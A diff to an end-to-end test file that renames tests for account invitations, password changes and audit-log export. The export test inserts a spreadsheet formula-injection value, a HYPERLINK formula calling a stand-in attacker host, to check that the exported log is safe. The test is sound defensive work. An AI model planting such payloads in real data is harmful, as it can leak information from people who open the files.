@@ -6,7 +6,7 @@ import { expect, test } from '../support/test.ts'
 
 const chosen = 'seven blue lanterns on a roof'
 
-test('an invitation makes an account whose owner sets a password and a second factor; disabled and deleted, it is out', async ({
+test('invites a colleague, who sets a password and a second factor, and is out when disabled or deleted', async ({
   page,
   browser,
   baseURL,
@@ -79,7 +79,7 @@ test('an invitation makes an account whose owner sets a password and a second fa
     await expect(page.getByTestId('audit').getByText(`accounts.${action}`, { exact: true })).toBeVisible()
 })
 
-test('a password is changed by who knows it, and the other sessions end', async ({
+test('changes a password when the current one is given, and ends the other sessions', async ({
   page,
   database,
   playwright,
@@ -106,7 +106,7 @@ test('a password is changed by who knows it, and the other sessions end', async 
   await other.dispose()
 })
 
-test('the log is a file that no spreadsheet runs, and who took it stands in it', async ({ page, database }) => {
+test('exports the audit log as a file that no spreadsheet runs, and logs the export', async ({ page, database }) => {
   const evil = `=HYPERLINK("https://evil.example/${randomUUID()}")`
   await database.sql("INSERT INTO audit_log (actor, via, action) VALUES ($1, 'session', 'session.refuse')", [evil])
   await signIn(page.request)
